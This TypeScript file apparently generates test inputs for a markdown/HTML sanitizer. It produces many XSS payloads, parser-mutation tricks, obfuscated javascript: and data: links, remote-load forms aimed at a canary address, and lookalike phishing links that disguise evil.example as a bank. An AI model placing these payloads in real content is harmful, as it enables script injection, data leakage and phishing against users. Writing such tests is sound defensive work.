/** Contents that attack, built from parts: the same ones each time, each once. */

/** @param canary an address that nothing may ask; what runs calls `__hit()` */
export function payloadsOn(canary: string): string[] {
  const markup = [...tagsThatRun(canary), ...mutations(), ...eventHandlers()];
  const links = schemes(canary).flatMap(linkForms);
  return [
    ...new Set([
      ...markup,
      ...markup.flatMap((each, n) => inPlaces(each, n, 5)),
      ...links,
      ...remoteForms(canary).flatMap((each, n) => [each, ...inPlaces(each, n, 8)]),
      ...disguises(canary).flatMap((each, n) => [each, ...inPlaces(each, n, 4)]),
      ...oddText(),
    ]),
  ];
}

/** Where a piece stands; each piece in some of them, in turn. */
const PLACES: readonly ((piece: string) => string)[] = [
  (piece) => `Before ${piece} after.`,
  (piece) => `> ${piece}`,
  (piece) => `- one\n- ${piece}`,
  (piece) => `| a | b |\n|---|---|\n| ${piece.replaceAll('|', '\\|').replaceAll('\n', ' ')} | c |`,
  (piece) => `## ${piece}`,
  (piece) => `**${piece}**`,
  (piece) => `~~${piece}~~ and *${piece}*`,
  (piece) => `\`unclosed ${piece}`,
  (piece) => `\`\`\`html\n${piece}\n\`\`\`\n${piece}`,
  (piece) => `<!-- ${piece} --> ${piece}`,
  (piece) => `<div>\n\n${piece}\n\n</div>`,
  (piece) => `note[^1]\n\n[^1]: ${piece}`,
  (piece) => `[${piece}](https://a.example)`,
  (piece) => `![${piece}](https://a.example/i.png "${piece}")`,
  (piece) => `\\${piece}`,
  (piece) => piece.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (piece) => piece.replaceAll('<', '&#60;').replaceAll(':', '&colon;'),
  (piece) => `1. ${piece}\n   - ${piece}\n\n     ${piece}`,
  (piece) => `- [ ] ${piece}`,
  (piece) => `<details><summary>${piece}</summary>\n${piece}\n</details>`,
];

function inPlaces(piece: string, n: number, count: number): string[] {
  return Array.from({ length: count }, (_, k) => PLACES[(n + k * 7) % PLACES.length]?.(piece) ?? piece);
}

function tagsThatRun(canary: string): string[] {
  return [
    '<script>__hit()</script>',
    '<ScRiPt>__hit()</sCrIpT>',
    '<script\n>__hit()</script\n>',
    `<script src="${canary}/s.js"></script>`,
    `<script type=module>import '${canary}/m.js'</script>`,
    '<img src=x onerror=__hit()>',
    '<img src=x onerror="__hit()"//',
    '<IMG """><script>__hit()</script>">',
    '<img/src/onerror=__hit()>',
    '<image src=x onerror=__hit()>',
    '<svg onload=__hit()>',
    '<svg/onload=__hit()>',
    '<svg><script>__hit()</script></svg>',
    '<svg><animate onbegin=__hit() attributeName=x dur=1s>',
    '<svg><set onbegin=__hit() attributeName=x>',
    '<svg><a xlink:href="javascript:__hit()"><text x=20 y=20>x</text></a></svg>',
    `<svg><use href="${canary}/u.svg#x"></use><image href="${canary}/i.png"/></svg>`,
    `<svg><foreignObject><iframe src="${canary}/f"></iframe></foreignObject></svg>`,
    '<iframe srcdoc="<script>parent.__hit()</script>"></iframe>',
    '<iframe src="javascript:parent.__hit()"></iframe>',
    `<iframe src="${canary}/frame"></iframe>`,
    `<embed src="${canary}/e">`,
    `<object data="${canary}/o"></object>`,
    '<object data="data:text/html,<script>parent.__hit()</script>"></object>',
    `<meta http-equiv=refresh content="0;url=${canary}/meta">`,
    `<base href="${canary}/">`,
    `<link rel=stylesheet href="${canary}/l.css">`,
    `<link rel=preload as=image href="${canary}/preload.png">`,
    `<link rel=prefetch href="${canary}/prefetch">`,
    `<style>@import "${canary}/c.css"; body { background: url(${canary}/bg) }</style>`,
    `<p style="background: url(${canary}/style)">x</p>`,
    `<div style="position:fixed;inset:0;z-index:9999;background:image-set('${canary}/set' 1x)">cover</div>`,
    `<form action="${canary}/form"><input name=password autofocus><button>Sign in</button></form>`,
    `<button formaction="javascript:__hit()">x</button>`,
    `<isindex type=image src="${canary}/isindex">`,
    `<input type=image src="${canary}/input" onerror=__hit()>`,
    `<video poster="${canary}/poster"><source src="${canary}/v.mp4" onerror=__hit()></video>`,
    `<audio src="${canary}/a.mp3" autoplay onerror=__hit()></audio>`,
    '<video><source onerror=__hit()></video>',
    '<details open ontoggle=__hit()>x</details>',
    '<marquee onstart=__hit()>x</marquee>',
    '<body onload=__hit()>',
    '<input autofocus onfocus=__hit()>',
    '<select autofocus onfocus=__hit()><option>x</select>',
    '<textarea autofocus onfocus=__hit()></textarea>',
    '<a href="javascript:__hit()">x</a>',
    '<a href="&#106;avascript:__hit()">x</a>',
    '<a href="java\tscript:__hit()">x</a>',
    '<a href=https://a.example ping="http://127.0.0.1:9/ping">x</a>',
    '<area href="javascript:__hit()">',
    '<math><mtext><script>__hit()</script></mtext></math>',
    '<math href="javascript:__hit()">x</math>',
    '<template><script>__hit()</script></template>',
    '<noscript><img src=x onerror=__hit()></noscript>',
    '<dialog open><img src=x onerror=__hit()></dialog>',
    `<table background="${canary}/table"><td>x</table>`,
    `<img srcset="${canary}/1x 1x, ${canary}/2x 2x">`,
    `<picture><source srcset="${canary}/picture"><img src=x></picture>`,
    '<x onclick=__hit() tabindex=1 autofocus onfocus=__hit()>x</x>',
    '<portal src="https://a.example"></portal><fencedframe></fencedframe><webview src="https://a.example"></webview>',
    '<xss id=__proto__><form name=body></form><img name=getElementById>',
  ];
}

/** What a parser turns into something else. */
function mutations(): string[] {
  const run = '<img src=x onerror=__hit()>';
  return [
    `<noscript><p title="</noscript>${run}">`,
    `<svg></p><style><a id="</style>${run}">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__hit()&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math>${run}`,
    `<svg><desc><template><style></desc>${run}`,
    `<!--><svg onload=__hit()>-->`,
    `<!--!><img src=x onerror=__hit()>--!>`,
    `<?xml version="1.0"?>${run}`,
    `<![CDATA[${run}]]>`,
    `<!DOCTYPE x [<!ENTITY y "${run}">]>&y;`,
    `<title><a title="</title>${run}">`,
    `<textarea></textarea\t>${run}`,
    `<xmp><p title="</xmp>${run}">`,
    `<plaintext>${run}`,
    `<listing>&lt;img src=x onerror=__hit()&gt;</listing>`,
    `<select><template><style><!--</style><a rel="--><img src=x onerror=__hit()>">`,
    `<a title="\`<img src=x onerror=__hit()>\`">`,
    '<<script>__hit()//<</script>',
    '<scr<script>ipt>__hit()</scr</script>ipt>',
    '<img src="x` `<script>__hit()</script>"` `>',
    `<div\u0000>${run}</div>`,
    '<img src=x\u0000 onerror\u0000=__hit()>',
    '<img\u000csrc=x\u000conerror=__hit()>',
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=__hit()>//"></svg>',
    '\u2028<script>__hit()</script>\u2029',
    '\ufeff<script>__hit()</script>',
    '＜script＞__hit()＜/script＞',
    '%3Cscript%3E__hit()%3C/script%3E',
    '\\x3cscript\\x3e__hit()\\x3c/script\\x3e',
    '+ADw-script+AD4-__hit()+ADw-/script+AD4-',
    `\${__hit()} {{constructor.constructor("__hit()")()}} <%= __hit() %> #{__hit()}`,
    '$$\\href{javascript:__hit()}{x}$$ and $\\unicode{<img src=x onerror=__hit()>}$',
    '```mermaid\ngraph TD; A["<img src=x onerror=__hit()>"]-->B; click A "javascript:__hit()"\n```',
    '```js\n__hit()\n```\n\n<script>__hit()</script>',
    '{{< raw >}}<script>__hit()</script>{{< /raw >}}',
    '---\ntitle: <script>__hit()</script>\n---\n<script>__hit()</script>',
  ];
}

function eventHandlers(): string[] {
  const events =
    `abort animationend animationstart auxclick beforeinput beforematch beforetoggle blur cancel canplay change click
    contextmenu cuechange dblclick drag drop durationchange error focus focusin formdata input invalid keydown load loadeddata
    loadstart message mouseenter mousemove mouseover pageshow paste pointerenter pointerover resize scroll securitypolicyviolation
    select slotchange stalled submit suspend toggle transitionend unhandledrejection wheel`.split(/\s+/);
  const tags = [
    'img src=x',
    'svg',
    'video src=x',
    'details open',
    'input autofocus',
    'div style="animation: x"',
  ];
  return events.flatMap((event, n) => [
    `<${tags[n % tags.length]} on${event}=__hit()>x`,
    `<${tags[(n + 3) % tags.length]} on${event}="__hit&lpar;&rpar;" on${event.toUpperCase()}='__hit()'>x`,
  ]);
}

function schemes(canary: string): string[] {
  const script = 'javascript:__hit()';
  return [
    script,
    'JaVaScRiPt:__hit()',
    ' javascript:__hit()',
    '\u0001javascript:__hit()',
    'java\tscript:__hit()',
    'java&Tab;script:__hit()',
    'java&NewLine;script:__hit()',
    'javascript&colon;__hit()',
    '&#x6A;avascript:__hit()',
    '&#106&#97&#118&#97script:__hit()',
    'javascript\\:__hit()',
    'javascript%3A__hit()',
    '%6aavascript:__hit()',
    'javascript://a.example/%0A__hit()',
    'javascript:/*https://a.example*/__hit()',
    'jav\u00adascript:__hit()',
    '\u202ejavascript:__hit()',
    'feed:javascript:__hit()',
    'view-source:javascript:__hit()',
    'https:javascript:__hit()',
    'https://javascript:__hit()',
    'vbscript:__hit()',
    'livescript:__hit()',
    'data:text/html,<script>__hit()</script>',
    'data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="__hit()"/>',
    'blob:https://a.example/0',
    'filesystem:https://a.example/0',
    'file:///etc/passwd',
    'app://deskside/index.html',
    'deskside://open?screen=settings',
    'ms-msdt:/id PCWDiagnostic',
    'search-ms:query=x',
    'smb://a.example/share',
    'ftp://a.example',
    'tel:112',
    'about:blank',
    'chrome://settings',
    'intent://x#Intent;end',
    `${canary}/plain`,
    canary.replace('http:', ''),
    canary.replace('http:', 'https:'),
    canary.replace('http:', 'https:\\\\'),
    '/settings',
    '#/settings',
    '?x=1',
    'mailto:a@b.example?cc=c@d.example&body=%0d%0aBcc:x',
    'mailto:javascript:__hit()',
  ];
}

function linkForms(url: string): string[] {
  return [
    `[x](${url})`,
    `[x](<${url}>)`,
    `[x](${url} "title")`,
    `[x][r]\n\n[r]: ${url}`,
    `[r][]\n\n[r]: <${url}> 'title'`,
    `<${url}>`,
    `${url}`,
    `![x](${url})`,
    `![x][r]\n\n[r]: ${url}`,
    `[![x](${url})](${url})`,
    `<a href="${url}">x</a>`,
    `<img src="${url}">`,
    `[x](https://a.example)](${url})`,
    `| a |\n|---|\n| [x](${url}) |`,
    `x[^1]\n\n[^1]: [x](${url})`,
  ];
}

function remoteForms(canary: string): string[] {
  return [
    `![](${canary}/1)`,
    `![x](${canary}/2 "title")`,
    `![x](<${canary}/3>)`,
    `![x][r]\n\n[r]: ${canary}/4`,
    `![r]\n\n[r]: ${canary}/5`,
    `[![x](${canary}/6)](${canary}/7)`,
    `![x](${canary.replace('http:', '')}/8)`,
    `![x](${canary.replace('http://', 'HTTP:\\\\')}/9)`,
    `<img src="${canary}/10">`,
    `<img src='${canary}/11' loading=lazy>`,
    `![a ![b](${canary}/12)](${canary}/13)`,
    `![x](\n${canary}/14\n)`,
    `![x](${canary}/%2e%2e/15)`,
    `![*x*](${canary}/16)`,
    `![x](${canary}/17){onerror=__hit()}`,
    `![x](&#104;ttp${canary.slice(4)}/18)`,
    `<link rel=icon href=${canary}/19>`,
    `<img src=${canary}/20`,
    `![x](${canary}/21`,
    `!\\[x](${canary}/22) !&#91;x](${canary}/23)`,
    `$\\includegraphics{${canary}/24}$`,
    `<style>li{list-style:url(${canary}/25)}</style>\n- x`,
    `<svg><filter><feImage href="${canary}/26"/></filter></svg>`,
    `@import url(${canary}/27);`,
  ];
}

/** Links that say they lead elsewhere. */
function disguises(canary: string): string[] {
  const evil = canary.replace('http:', 'https:');
  return [
    `[https://bank.example](${evil}/)`,
    `[bank.example](${evil}/)`,
    `[https://bank.example/?to=${new URL(evil).host}](${evil}/)`,
    `[bank.example.br](https://example.br/)`,
    `[www.bank.example ](https://a.example/)`,
    '[\u202eelpmaxe.knab](https://evil.example/)',
    '[bank.example\u2066](https://evil.example/)',
    '[bank.example \u200b\u200b\u200b](https://evil.example/)',
    '[bank](https://xn--bnk-5cd.example/)',
    '[b\u0430nk.example](https://b\u0430nk.example/)',
    '[x](https://bank.example@evil.example/)',
    '[x](https://bank.example%2f@evil.example/)',
    '[x](https://bank.example\\@evil.example/)',
    '[x](https://bank.example\u3002evil.example/)',
    '[x](https://bank.example\uff0fevil.example/)',
    '[x](https://2130706433/)',
    '[x](https://[::ffff:127.0.0.1]/)',
    '[x](https://a.example:8443/)',
    '<https://bank.example@evil.example>',
    'https://bank.example@evil.example/login',
    '[](https://evil.example)',
    '[ ](https://evil.example)',
    '[`code`](https://evil.example) [**evil.example**](https://other.example)',
    '[mail](mailto:you@bank.example@evil.example)',
    '[support@bank.example](mailto:x@evil.example)',
    '[evil.example.bank.example](https://evil.example)',
    `[(bank.example)](${evil}/)`,
  ];
}

function oddText(): string[] {
  return [
    '\u001b[31mred\u001b[0m \u001b]8;;http://127.0.0.1:9\u0007link\u001b]8;;\u0007',
    '\u001b]0;title\u0007\u001b[2J\u001b[H\u009b31m',
    '\u202egnp.exe\u202c \u2066\u2067\u2068\u2069\u200f\u200e',
    'Z\u0300\u0301\u0302\u0303'.repeat(80),
    '\ud800 lone \udc00',
    '\u0000\u0001\u0008\u000b\u007f\u0085\ufffe\uffff',
    '👨‍👩‍👧‍👦🏳️‍🌈🇩🇪'.repeat(20),
    'ﷺ𒐫꧅'.repeat(30),
    'x'.repeat(3000),
    'https://a.example/'.padEnd(2200, 'y'),
    '\n'.repeat(400),
    `${'\t'.repeat(400)}x`,
    '&'.repeat(500),
    '&#0; &#x110000; &#xD800; &#99999999; &nosuch;',
    '\r\nline\r\rline\u0085line\u2028line',
    '[^1] [^1] [^x]\n\n[^1]: a [^1]\n[^x]: [^x]',
    '[a]: b\n[a]: c\n[a][a][a]',
    '- [x] done\n- [ ] open\n- [X] <input type=range>',
    '[1] [2](https://a.example) `[3]` [99]',
  ];
}
